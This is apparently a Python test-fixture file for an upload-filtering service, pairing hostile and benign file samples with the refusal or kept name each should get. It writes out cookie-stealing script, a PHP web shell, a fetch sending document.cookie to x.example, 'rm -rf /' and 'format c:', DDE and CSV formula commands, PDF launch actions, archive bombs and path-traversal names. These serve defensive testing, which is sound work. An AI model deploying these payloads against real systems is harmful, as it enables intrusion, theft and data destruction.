"""Files made in the test: hostile ones, each with what must become of it, and friendly ones. No binaries are kept."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from dataclasses import dataclass

import xlsxwriter
from PIL import Image

from ognisko.files.rules import MEGABYTE, Kind, Refusal
from ognisko.files.rules.kinds import EICAR

SCRIPT = b"<script>alert(document.cookie)</script>"
PAGE = b"<!doctype html><html><body>" + SCRIPT + b"</body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"
EXE = b"MZ\x90\0" + bytes(200)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)


@dataclass(frozen=True)
class Sample:
    """A file as somebody sends it, and what becomes of it: a reason of refusal, or the kind and name it is kept as."""

    what: str
    name: str
    content: bytes
    outcome: Refusal | Kind
    kept_as: str = ""
    gone: tuple[bytes, ...] = ()
    megabytes: int = 20

    def __str__(self) -> str:
        return self.what


# Building -------------------------------------------------------------------------------------------------------------


def package(*parts: tuple[str, bytes], stored: tuple[str, ...] = ()) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts:
            archive.writestr(name, content, zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED)
    return out.getvalue()


def types(main: str = "wordprocessingml.document.main+xml", part: str = "/word/document.xml") -> tuple[str, bytes]:
    return "[Content_Types].xml", (
        '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="{part}" ContentType="application/vnd.openxmlformats-officedocument.{main}"/></Types>'
    ).encode()


WORD = b'<?xml version="1.0"?><w:document xmlns:w="http://x"><w:body><w:p><w:r><w:t>Umowa</w:t></w:r></w:p>%s</w:body></w:document>'


def docx(*more: tuple[str, bytes], body: bytes = b"") -> bytes:
    return package(types(), ("word/document.xml", WORD % body), *more)


def rels(kind: str, target: str) -> bytes:
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}" '
        'TargetMode="External"/></Relationships>'
    ).encode()


def xlsx(*, chart: bool = False) -> bytes:
    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True}) as book:
        sheet = book.add_worksheet("Budżet")
        sheet.write_row(0, 0, ["Pozycja", "Kwota"])
        sheet.write_row(1, 0, ["Sadzonki", 1200])
        if chart:
            drawn = book.add_chart({"type": "column"})
            drawn.add_series({"values": "=Budżet!$B$2:$B$2"})
            sheet.insert_chart("D2", drawn)
    return out.getvalue()


def opened(
    mimetype: str, *more: tuple[str, bytes], manifest: bytes = b"<manifest/>", content: bytes = b"<x/>"
) -> bytes:
    return package(
        ("mimetype", f"application/vnd.oasis.opendocument.{mimetype}".encode()),
        ("content.xml", content),
        ("META-INF/manifest.xml", manifest),
        *more,
        stored=("mimetype",),
    )


def pdf(*objects: bytes, trailer: bytes = b"") -> bytes:
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    given = (
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        *objects,
    )
    places = []
    for number, body in enumerate(given, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(places) + 1, trailer, start)
    return bytes(out)


def stream(content: bytes, head: bytes = b"") -> bytes:
    packed = zlib.compress(content)
    return b"<< %s /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (head, len(packed), packed)


def picture(format_: str, *, mode: str = "RGB", **options: object) -> bytes:
    out = io.BytesIO()
    Image.linear_gradient("L").resize((320, 200)).convert(mode).save(out, format_, **options)
    return out.getvalue()


def photograph() -> bytes:
    """A JPEG that lies on its side and says where it was taken, by what, and a script in its comment."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010F] = "Aparat Ogniska"
    exif.get_ifd(0x8825)[2] = (51.0, 35.0, 43.0)
    return picture("JPEG", exif=exif, comment=PAGE)


def huge_png() -> bytes:
    """A PNG of some bytes that claims 50,000 × 50,000 pixels."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = struct.pack(">IIBBBBB", 50_000, 50_000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(bytes(1000))) + chunk(b"IEND", b"")
    )


def overlapping() -> bytes:
    """A document in whose directory two parts share their bytes, as in the bombs that unpack to petabytes."""
    whole = bytearray(docx(("word/styles.xml", b"<a/>" * 2000)))
    directory = whole.find(b"PK\x01\x02")
    entries = []
    at = directory
    while whole[at : at + 4] == b"PK\x01\x02":
        entries.append(at)
        at += 46 + sum(struct.unpack("<HHH", whole[at + 28 : at + 34]))
    size = struct.unpack("<I", whole[entries[1] + 20 : entries[1] + 24])[0]
    whole[entries[1] + 20 : entries[1] + 24] = struct.pack("<I", size + 60)
    return bytes(whole)


ZEROS = bytes(30 * MEGABYTE)
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><l>&b;</l>'
DDE = (
    b'<w:p><w:r><w:instrText>D</w:instrText></w:r><w:r><w:instrText>DEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'
    b"</w:instrText></w:r></w:p>"
)
JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


def hostile() -> list[Sample]:
    """What a browser would run or a reader choke on."""
    text = b"Wniosek o mikrogrant, Sieradz.\n"
    archive = package(("wniosek.txt", text))
    return [
        # Pages and drawings
        Sample("SVG with a script", "logo.svg", SVG, Refusal.PAGE),
        Sample("SVG as PNG", "logo.png", b"<?xml version='1.0'?>" + SVG, Refusal.PAGE),
        Sample("SVG in UTF-16", "logo.svg", SVG.decode().encode("utf-16"), Refusal.UNKNOWN),
        Sample("HTML as PDF", "statut.pdf", PAGE, Refusal.PAGE),
        Sample("HTML as TXT", "notatka.txt", PAGE, Refusal.PAGE),
        Sample("HTML behind a mark and blanks as CSV", "lista.csv", b"\xef\xbb\xbf \n\t" + PAGE, Refusal.PAGE),
        Sample("HTML far inside a text", "notatka.txt", text * 500 + SCRIPT, Refusal.PAGE),
        Sample("XHTML", "strona.xhtml", b'<?xml version="1.0"?><html xmlns="x">' + SCRIPT + b"</html>", Refusal.PAGE),
        Sample("MHTML", "strona.mht", b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + PAGE, Refusal.PAGE),
        Sample("HTA", "program.hta", b"<HTA:APPLICATION /><script>x</script>", Refusal.PAGE),
        Sample("PHP as TXT", "notatka.txt", b"<?php system($_GET['c']); ?>", Refusal.PAGE),
        # Programmes and scripts
        Sample("EXE as PDF", "faktura.pdf", EXE, Refusal.PROGRAM),
        Sample("EXE with two endings", "faktura.pdf.exe", EXE, Refusal.PROGRAM),
        Sample("ELF as JPG", "zdjecie.jpg", b"\x7fELF" + bytes(100), Refusal.PROGRAM),
        Sample("Mach-O", "program", b"\xcf\xfa\xed\xfe" + bytes(100), Refusal.PROGRAM),
        Sample("Java class", "Wniosek.class", b"\xca\xfe\xba\xbe\0\0\0\x34", Refusal.PROGRAM),
        Sample("Windows shortcut", "umowa.pdf.lnk", b"L\0\0\0\1\x14\2\0" + bytes(80), Refusal.PROGRAM),
        Sample("JavaScript", "skrypt.js", b"fetch('//x.example/'+document.cookie)", Refusal.PROGRAM),
        Sample("batch file", "start.bat", b"@echo off\r\nformat c:\r\n", Refusal.PROGRAM),
        Sample("PowerShell", "start.ps1", b"Invoke-Expression $x", Refusal.PROGRAM),
        Sample("shell script as TXT", "notatka.txt", b"#!/bin/sh\nrm -rf /\n", Refusal.PROGRAM),
        # Archives
        Sample("ZIP", "zalaczniki.zip", archive, Refusal.ARCHIVE),
        Sample(
            "JAR as DOCX", "umowa.docx", package(("META-INF/MANIFEST.MF", b"x"), ("A.class", b"x")), Refusal.ARCHIVE
        ),
        Sample("RAR", "zalaczniki.rar", b"Rar!\x1a\x07\0" + bytes(50), Refusal.ARCHIVE),
        Sample("7z", "zalaczniki.7z", b"7z\xbc\xaf\x27\x1c" + bytes(50), Refusal.ARCHIVE),
        Sample("GZ as PDF", "statut.pdf", zlib.compress(text, wbits=31), Refusal.ARCHIVE),
        Sample("ISO", "plyta.iso", bytes(0x8001) + b"CD001" + bytes(100), Refusal.ARCHIVE),
        # Documents that run something
        Sample(
            "DOCM as DOCX",
            "umowa.docx",
            package(
                (
                    "[Content_Types].xml",
                    types()[1].replace(
                        b"vnd.openxmlformats-officedocument.wordprocessingml.document",
                        b"vnd.ms-word.document.macroEnabled",
                    ),
                ),
                ("word/document.xml", WORD % b""),
            ),
            Refusal.MACROS,
        ),
        Sample("macros in DOCX", "umowa.docx", docx(("word/vbaProject.bin", OLE)), Refusal.MACROS),
        Sample(
            "Excel 4 macros",
            "budzet.xlsx",
            package(types("spreadsheetml.sheet.main+xml", "/xl/workbook.xml"), ("xl/macrosheets/sheet1.xml", b"<x/>")),
            Refusal.MACROS,
        ),
        Sample("macros in ODT", "pismo.odt", opened("text", ("Basic/Standard/Modul.xml", b"<x/>")), Refusal.MACROS),
        Sample(
            "a script called from ODS",
            "budzet.ods",
            opened("spreadsheet", content=b'<x href="vnd.sun.star.script:a.py$f?language=Python"/>'),
            Refusal.MACROS,
        ),
        Sample(
            "a template fetched from elsewhere",
            "umowa.docx",
            docx(("word/_rels/settings.xml.rels", rels("attachedTemplate", "https://x.example/t.dotm"))),
            Refusal.ACTIVE,
        ),
        Sample("a programme inside DOCX", "umowa.docx", docx(("word/embeddings/oleObject1.bin", OLE)), Refusal.ACTIVE),
        Sample("a page inside DOCX", "umowa.docx", docx(("word/afchunk.htm", PAGE)), Refusal.ACTIVE),
        Sample("DDE in DOCX, cut in two", "umowa.docx", docx(body=DDE), Refusal.ACTIVE),
        Sample(
            "DDE in XLSX",
            "budzet.xlsx",
            package(
                types("spreadsheetml.sheet.main+xml", "/xl/workbook.xml"),
                ("xl/externalLinks/externalLink1.xml", b"<externalLink><ddeLink ddeService='cmd'/></externalLink>"),
            ),
            Refusal.ACTIVE,
        ),
        Sample("a command in CSV", "lista.csv", b"nazwa;kwota\r\n=cmd|'/c calc'!A1;1\r\n", Refusal.ACTIVE),
        Sample("old DOC", "umowa.doc", OLE, Refusal.OLD_OFFICE),
        Sample("RTF with an object", "pismo.rtf", b"{\\rtf1{\\object\\objdata 0105}}", Refusal.OLD_OFFICE),
        # Documents that a reader chokes on
        Sample("an archive bomb in DOCX", "umowa.docx", docx(("word/media/image1.bmp", ZEROS)), Refusal.BOMB),
        Sample(
            "a bomb inside a workbook inside DOCX",
            "umowa.docx",
            docx(
                (
                    "word/embeddings/a.xlsx",
                    package(types("spreadsheetml.sheet.main+xml", "/xl/workbook.xml"), ("xl/media/image1.bmp", ZEROS)),
                )
            ),
            Refusal.BOMB,
        ),
        Sample("overlapping parts", "umowa.docx", overlapping(), Refusal.BOMB),
        Sample("too many parts", "umowa.docx", docx(*((f"word/a{n}.xml", b"") for n in range(5_001))), Refusal.BOMB),
        Sample("a billion laughs", "umowa.docx", docx(("word/styles.xml", LAUGHS)), Refusal.BOMB),
        Sample("a part that climbs out", "umowa.docx", docx(("../../etc/cron.d/x", b"x")), Refusal.BROKEN),
        Sample("DOCX with a password", "umowa.docx", OLE + "EncryptedPackage".encode("utf-16-le"), Refusal.ENCRYPTED),
        Sample("ODT with a password", "pismo.odt", opened("text", manifest=b"<m:encryption-data/>"), Refusal.ENCRYPTED),
        Sample("PDF that unpacks to 300 MB", "skan.pdf", pdf(stream(bytes(300 * MEGABYTE))), Refusal.BOMB),
        Sample("PNG of 2.5 thousand million pixels", "mapa.png", huge_png(), Refusal.PIXELS),
        Sample("half a PDF", "statut.pdf", pdf()[:200], Refusal.BROKEN),
        Sample("half a JPG", "zdjecie.jpg", picture("JPEG")[:900], Refusal.BROKEN),
        # PDFs that run something
        Sample("PDF with a script", "statut.pdf", pdf(JS), Refusal.ACTIVE),
        Sample(
            "PDF with a script written otherwise", "statut.pdf", pdf(JS.replace(b"Java", b"J#61v#61")), Refusal.ACTIVE
        ),
        Sample(
            "PDF with a packed script",
            "statut.pdf",
            pdf(stream(b"9 0 " + JS, b"/Type /ObjStm /N 1 /First 4")),
            Refusal.ACTIVE,
        ),
        Sample(
            "PDF with a script packed unusually",
            "statut.pdf",
            pdf(b"<< /Type /ObjStm /N 1 /First 4 /Filter /LZWDecode /Length 3 >>\nstream\nabc\nendstream"),
            Refusal.ACTIVE,
        ),
        Sample("PDF that starts a programme", "statut.pdf", pdf(b"<< /S /Launch /F (cmd.exe) >>"), Refusal.ACTIVE),
        Sample("PDF with a file inside", "statut.pdf", pdf(stream(EXE, b"/Type /EmbeddedFile")), Refusal.ACTIVE),
        Sample("PDF with a password", "statut.pdf", pdf(trailer=b"/Encrypt 9 0 R"), Refusal.ENCRYPTED),
        # Two files in one
        Sample("PDF with an archive behind it", "statut.pdf", pdf() + archive, Refusal.MIXED),
        Sample("PDF with a page behind it", "statut.pdf", pdf() + PAGE, Refusal.MIXED),
        Sample("PDF behind a page", "statut.pdf", b"<html>" + pdf(), Refusal.MIXED),
        Sample("PDF with a page in its head", "statut.pdf", pdf().replace(b"\n%", b"\n%" + PAGE, 1), Refusal.MIXED),
        Sample("DOCX behind a programme", "umowa.docx", b"PK\x03\x04" + bytes(40) + docx(), Refusal.MIXED),
        Sample("DOCX with something behind it", "umowa.docx", docx() + PAGE, Refusal.MIXED),
        Sample("GIFAR", "zdjecie.gif", b"GIF89a" + bytes(20) + archive, Refusal.PICTURE),
        Sample(
            "PNG with an archive behind it",
            "zdjecie.png",
            picture("PNG") + archive,
            Kind.PNG,
            "zdjecie.png",
            (b"PK\x03\x04", text),
        ),
        Sample(
            "JPG with a page behind it", "zdjecie.jpg", picture("JPEG") + PAGE, Kind.JPEG, "zdjecie.jpg", (b"script",)
        ),
        Sample(
            "JPG with a script in its comment and a place",
            "zdjecie.jpg",
            photograph(),
            Kind.JPEG,
            "zdjecie.jpg",
            (b"script", b"Exif", b"Aparat"),
        ),
        Sample("PNG as PDF", "statut.pdf", picture("PNG"), Kind.PNG, "statut.png"),
        # Others
        Sample("EICAR", "notatka.txt", EICAR, Refusal.VIRUS),
        Sample("EICAR inside DOCX", "umowa.docx", docx(("word/media/a.bin", EICAR)), Refusal.VIRUS),
        Sample("HEIC", "IMG_0001.heic", b"\0\0\0\x18ftypheic" + bytes(50), Refusal.PICTURE),
        Sample("film", "film.mp4", b"\0\0\0\x18ftypisom" + bytes(50), Refusal.RECORDING),
        Sample("nothing", "pusty.pdf", b"", Refusal.EMPTY),
        Sample("too much", "duzy.txt", b"a" * (MEGABYTE + 1), Refusal.TOO_LARGE, megabytes=1),
        Sample("neither fish nor fowl", "dane.txt", bytes(range(256)), Refusal.UNKNOWN),
        # Names
        Sample("a name that climbs", "../../../etc/passwd.txt", text, Kind.TEXT, "passwd.txt"),
        Sample("a name that climbs on Windows", "..\\..\\windows\\win.txt", text, Kind.TEXT, "win.txt"),
        Sample(
            "a name with controls", "a\0b\r\nSet-Cookie: x=1\x1b[2J.txt", text, Kind.TEXT, "abSet-Cookie_ x=1[2J.txt"
        ),
        Sample("a name that turns", "umowa\u202etxt.exe.txt", text, Kind.TEXT, "umowatxt.exe.txt"),
        Sample("a device", "CON.txt", text, Kind.TEXT, "-CON.txt"),
        Sample("a name of 300 letters", "ż" * 300 + ".txt", text, Kind.TEXT, "ż" * 115 + ".txt"),
        Sample(
            "a name that breaks out of the header",
            'a"; filename="x.html.txt',
            text,
            Kind.TEXT,
            "a_; filename=_x.html.txt",
        ),
        Sample("a name that is only dots", "....txt", text, Kind.TEXT, "plik.txt"),
    ]


def friendly() -> list[Sample]:
    """What people really send; kept byte for byte but for pictures."""
    return [
        Sample("PDF", "Statut.pdf", pdf(stream(b"BT (Statut) Tj ET")), Kind.PDF, "Statut.pdf"),
        Sample(
            "PDF with object streams",
            "Statut 2.pdf",
            pdf(stream(b"9 0 << /Type /Font >>", b"/Type /ObjStm /N 1 /First 4")),
            Kind.PDF,
            "Statut 2.pdf",
        ),
        Sample(
            "DOCX",
            "Umowa „Łąka”.docx",
            docx(("word/_rels/document.xml.rels", rels("hyperlink", "https://ngo.example/"))),
            Kind.DOCX,
            "Umowa „Łąka”.docx",
        ),
        Sample(
            "DOCX with a local template",
            "Pismo.docx",
            docx(("word/_rels/settings.xml.rels", rels("attachedTemplate", "file:///C:\\Szablony\\Normal.dotm"))),
            Kind.DOCX,
            "Pismo.docx",
        ),
        Sample(
            "DOCX with a chart's workbook",
            "Raport.docx",
            docx(("word/embeddings/Arkusz.xlsx", xlsx())),
            Kind.DOCX,
            "Raport.docx",
        ),
        Sample("XLSX", "budżet.XLSX", xlsx(chart=True), Kind.XLSX, "budżet.xlsx"),
        Sample(
            "PPTX",
            "pokaz.pptx",
            package(
                types("presentationml.presentation.main+xml", "/ppt/presentation.xml"),
                ("ppt/presentation.xml", b"<p/>"),
            ),
            Kind.PPTX,
            "pokaz.pptx",
        ),
        Sample("ODT", "pismo.odt", opened("text"), Kind.ODT, "pismo.odt"),
        Sample("ODS", "budzet.ods", opened("spreadsheet"), Kind.ODS, "budzet.ods"),
        Sample("JPG", "zdjęcie ogrodu.jpeg", picture("JPEG"), Kind.JPEG, "zdjęcie ogrodu.jpg"),
        Sample("JPG in CMYK", "plakat.jpg", picture("JPEG", mode="CMYK"), Kind.JPEG, "plakat.jpg"),
        Sample("PNG with clearness", "logo.png", picture("PNG", mode="LA"), Kind.PNG, "logo.png"),
        Sample("PNG with a palette", "mapa.png", picture("PNG", mode="P"), Kind.PNG, "mapa.png"),
        Sample("WebP", "plan.webp", picture("WEBP"), Kind.WEBP, "plan.webp"),
        Sample("text", "notatka.txt", "Zażółć gęślą jaźń; 2 < 3 & 5 > 4\r\n".encode(), Kind.TEXT, "notatka.txt"),
        Sample(
            "CSV in Windows-1250", "lista.csv", "imię;kwota\r\nŁucja;-12,50\r\n".encode("cp1250"), Kind.CSV, "lista.csv"
        ),
    ]
